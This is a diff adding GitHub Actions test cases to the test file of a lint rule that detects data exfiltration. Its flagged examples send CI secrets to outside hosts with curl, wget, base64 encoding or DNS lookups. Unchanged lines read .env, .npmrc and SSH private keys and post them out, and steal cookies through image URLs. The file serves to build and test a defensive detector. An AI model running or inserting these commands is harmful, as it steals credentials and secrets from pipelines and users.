@@ -1,6 +1,13 @@
 import rule from '../../src/rules/no-data-exfiltration.ts';
 import { ruleTester } from '../tester.ts';
 
+const filename = '.github/workflows/ci.yml';
+/** A step that gets secrets under names of its own. */
+const given = (run: string, env: Readonly<Record<string, string>> = { T: 'secrets.NPM_TOKEN', URL: 'secrets.DEPLOY_URL' }): { readonly code: string; readonly filename: string } => ({
+  code: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${JSON.stringify(run)}\n        env:\n${Object.entries(env).map(([name, value]) => `          ${name}: \${{ ${value} }}\n`).join('')}`,
+  filename,
+});
+
 await ruleTester(rule, {
   valid: [
     // protocols that ask for the sender's host name
@@ -21,6 +28,21 @@ await ruleTester(rule, {
     { code: 'const Pixel = () => <img alt="" src={`https://px.example.com/p?v=${version}`} />;', filename: 'file.jsx' },
     { code: 'box.innerHTML = `<a href="https://a.example.com/">docs</a> ${document.cookie.length}`;' },
     { code: 'import { pipeline } from "node:stream/promises"; import fs from "node:fs"; await pipeline(fs.createReadStream(".env"), fs.createWriteStream(".env.bak"));' },
+    given('curl -fsS -X POST "$URL"'),
+    given('curl -fsS -X POST ${{ secrets.DEPLOY_HOOK }}'),
+    given('curl -H "Authorization: Bearer $T" https://api.example-service.com/v1/deploy'),
+    given('curl -H "Authorization: Bearer ${{ secrets.NPM_TOKEN }}" https://api.example-service.com/v1/deploy'),
+    given('curl -u "bot:${{ secrets.API_TOKEN }}" -T out.zip https://files.example-service.com/'),
+    given('curl "https://api.example-service.com/deploy?key=${{ secrets.RENDER_API_KEY }}"'),
+    given('curl -F "token=${{ secrets.TRIGGER_TOKEN }}" -F ref=main "https://gitlab.com/api/v4/projects/1/trigger/pipeline"'),
+    given('curl -d "{\\"text\\":\\"built $GITHUB_SHA\\"}" "$URL"'),
+    given('curl -d "$T" http://localhost:8080/x'),
+    given('curl -d "${#T}" https://api.example-service.com/x'),
+    given('echo "$T" | docker login ghcr.io -u bot --password-stdin && curl -fsS https://api.example-service.com/health'),
+    given('curl -d "$REF" https://api.example-service.com/x', { REF: 'github.ref', T: 'secrets.NPM_TOKEN' }),
+    given('curl -d "$MODE" https://api.example-service.com/x', { MODE: "secrets.NPM_TOKEN != '' && 'a' || 'b'" }),
+    { ...given('curl -d "$T" https://in.example-service.com/x'), settings: { allowedHosts: ['in.example-service.com'] } },
+    { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          T: ${{ secrets.NPM_TOKEN }}\n      - run: curl -d "$T" https://api.example-service.com/x\n', filename },
     { code: 'app.get("/x", async (req, res) => { await fetch("https://api.example-service.com/introspect", { method: "POST", headers: { authorization: req.headers.authorization }, body: JSON.stringify({ token: req.headers.authorization }) }); });' },
     { code: 'import dns from "node:dns/promises"; await dns.lookup(process.env.DB_HOST ?? "localhost"); await dns.lookup(`${process.env.REGION ?? ""}.example-service.com`);' },
     { code: "import fs from 'node:fs'; import dotenv from 'dotenv'; const config = dotenv.parse(fs.readFileSync('.env')); fetch('https://api.example-service.com', { headers: { authorization: `Bearer ${config.API_KEY}` } });" },
@@ -133,6 +155,19 @@ await ruleTester(rule, {
     { code: 'const Pixel = () => <img alt="" src={`https://px.example-service.com/p?t=${btoa(document.cookie)}`} />;', filename: 'file.jsx', errors: [{ messageId: 'sent' }] },
     { code: 'document.body.style.backgroundImage = `url(https://px.example-service.com/b?c=${document.cookie})`;', errors: [{ messageId: 'sent' }] },
     { code: 'img.setAttribute("src", "https://px.example-service.com/p?c=" + document.cookie);', errors: [{ messageId: 'sent' }] },
+    // more expressions than are told apart: the rest is read as the shell would
+    { ...given(`echo \${{ secrets.NPM_TOKEN }}\n`.repeat(2001) + 'curl -d "a=$T" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
+    { ...given('curl -d "$T" https://x.example-service.com/c'), errors: [{ messageId: 'sent', line: 6, data: { name: 'NPM_TOKEN', sink: 'curl', host: 'x.example-service.com' } }] },
+    { ...given('curl --data-raw "v=${T}" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
+    { ...given('curl -d "${{ secrets.NPM_TOKEN }}" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
+    { ...given('curl -d "a=${{ secrets.NPM_TOKEN }}&b=${{ secrets.AWS_SECRET_ACCESS_KEY }}" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }, { messageId: 'sent' }] },
+    { ...given('echo "$T" | base64 | curl -d @- https://x.example-service.com/c'), errors: [{ messageId: 'encoded' }] },
+    { ...given('echo "${{ secrets.NPM_TOKEN }}" | curl -d @- https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
+    { ...given('curl "https://45.61.3.2/?t=$T"'), errors: [{ messageId: 'hostile' }] },
+    { ...given('curl "https://x.example-service.com/?t=$(echo $T | base64 -w0)"'), errors: [{ messageId: 'encoded' }] },
+    { ...given('nslookup "$T.x.example-service.com"'), errors: [{ messageId: 'dns' }] },
+    { ...given('curl "https://api.example-service.com/deploy?key=${{ secrets.RENDER_API_KEY }}"'), options: { strict: true }, errors: [{ messageId: 'sent' }] },
+    { code: 'on: push\nenv:\n  A: ${{ secrets.NPM_TOKEN }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      B: ${{ secrets.PYPI_TOKEN }}\n    steps:\n      - run: wget --post-data "a=$A&b=$B" https://x.example-service.com/c\n', filename, errors: [{ messageId: 'sent' }] },
     { code: "import fs from 'node:fs'; fetch('https://api.example-service.com', { headers: { 'x-data': fs.readFileSync('/root/.ssh/id_rsa', 'utf8') } });", errors: [{ messageId: 'sent' }] },
     { code: "import { promises as fs } from 'node:fs'; const all = await Promise.all(['.env', '.npmrc'].map((file) => fs.readFile(file, 'utf8'))); await fetch('https://t.example-service.com', { method: 'POST', body: all.join() });", errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "fs"; fetch("https://api.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', errors: [{ messageId: 'sent', line: 1, column: 87, endLine: 1, endColumn: 110 }] },
